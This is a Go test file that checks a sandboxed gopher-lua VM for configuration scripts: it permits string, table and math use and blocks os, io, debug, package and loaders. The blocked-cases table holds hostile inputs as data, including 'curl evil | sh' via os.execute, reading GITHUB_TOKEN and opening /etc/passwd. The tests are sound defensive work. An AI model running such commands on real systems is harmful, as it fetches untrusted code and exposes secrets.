package config

import (
	"strings"
	"testing"

	lua "github.com/yuin/gopher-lua"
)

func TestNewSandboxedVM_Allowed(t *testing.T) {
	snippets := map[string]string{
		"string":   `engines = { string.lower("V8"), string.format("%s", "hermes") }`,
		"table":    `t = {"v8"}; table.insert(t, "jsc"); s = table.concat(t, ",")`,
		"math":     `n = math.max(1, math.floor(2.5))`,
		"base":     `k = type({}) .. tostring(1) .. tonumber("2")`,
		"iterate":  `for _, id in ipairs({"v8", "xs"}) do end; for k in pairs({a=1}) do end`,
		"pcall":    `ok = pcall(function() error("x") end)`,
		"closures": `local function pick(on) return on and "v8" or nil end; x = pick(true)`,
	}
	for name, code := range snippets {
		t.Run(name, func(t *testing.T) {
			L := newSandboxedVM()
			defer L.Close()
			if err := L.DoString(code); err != nil {
				t.Errorf("DoString(%q) error = %v", code, err)
			}
		})
	}
}

func TestNewSandboxedVM_Blocked(t *testing.T) {
	// Removed libraries fail on index, removed functions fail on call.
	tests := []struct {
		code string
		want string
	}{
		{`os.execute("curl evil | sh")`, "attempt to index"},
		{`token = os.getenv("GITHUB_TOKEN")`, "attempt to index"},
		{`f = io.open("/etc/passwd")`, "attempt to index"},
		{`f = io.popen("ls")`, "attempt to index"},
		{`p = package.path`, "attempt to index"},
		{`debug.getinfo(1)`, "attempt to index"},
		{`m = require("socket")`, "attempt to call"},
		{`dofile("other.lua")`, "attempt to call"},
		{`f = loadfile("other.lua")`, "attempt to call"},
		{`f = load("return 1")`, "attempt to call"},
		{`f = loadstring("return 1")`, "attempt to call"},
		{`collectgarbage()`, "attempt to call"},
		{`setmetatable({}, {})`, "attempt to call"},
		{`rawset(_G, "x", 1)`, "attempt to call"},
	}
	for _, tt := range tests {
		t.Run(tt.code, func(t *testing.T) {
			L := newSandboxedVM()
			defer L.Close()

			err := L.DoString(tt.code)
			if err == nil {
				t.Fatalf("DoString(%q) succeeded, want error", tt.code)
			}
			if !strings.Contains(err.Error(), tt.want) {
				t.Errorf("DoString(%q) error = %v, want substring %q", tt.code, err, tt.want)
			}
		})
	}
}

func TestNewSandboxedVM_Globals(t *testing.T) {
	L := newSandboxedVM()
	defer L.Close()

	for _, name := range []string{"os", "io", "debug", "package", "require", "getmetatable"} {
		if v := L.GetGlobal(name); v != lua.LNil {
			t.Errorf("global %s = %v, want nil", name, v.Type())
		}
	}
	for _, name := range []string{"string", "table", "math"} {
		if v := L.GetGlobal(name); v.Type() != lua.LTTable {
			t.Errorf("global %s = %v, want table", name, v.Type())
		}
	}
}

func TestNewSandboxedVM_Results(t *testing.T) {
	L := newSandboxedVM()
	defer L.Close()

	code := `
		local ids = {"v8", "hermes"}
		table.insert(ids, 1, "jsc")
		joined = table.concat(ids, ",")
		upper = string.upper(ids[2])
		count = #ids
		root = math.sqrt(16)
	`
	if err := L.DoString(code); err != nil {
		t.Fatalf("DoString() error = %v", err)
	}

	if got := L.GetGlobal("joined").String(); got != "jsc,v8,hermes" {
		t.Errorf("joined = %q, want %q", got, "jsc,v8,hermes")
	}
	if got := L.GetGlobal("upper").String(); got != "V8" {
		t.Errorf("upper = %q, want %q", got, "V8")
	}
	if got := lua.LVAsNumber(L.GetGlobal("count")); got != 3 {
		t.Errorf("count = %v, want 3", got)
	}
	if got := lua.LVAsNumber(L.GetGlobal("root")); got != 4 {
		t.Errorf("root = %v, want 4", got)
	}
}

func TestNewSandboxedVM_CallStackLimit(t *testing.T) {
	L := newSandboxedVM()
	defer L.Close()

	err := L.DoString(`local function f(n) return 1 + f(n + 1) end f(1)`)
	if err == nil {
		t.Fatal("unbounded recursion succeeded, want stack overflow")
	}
}
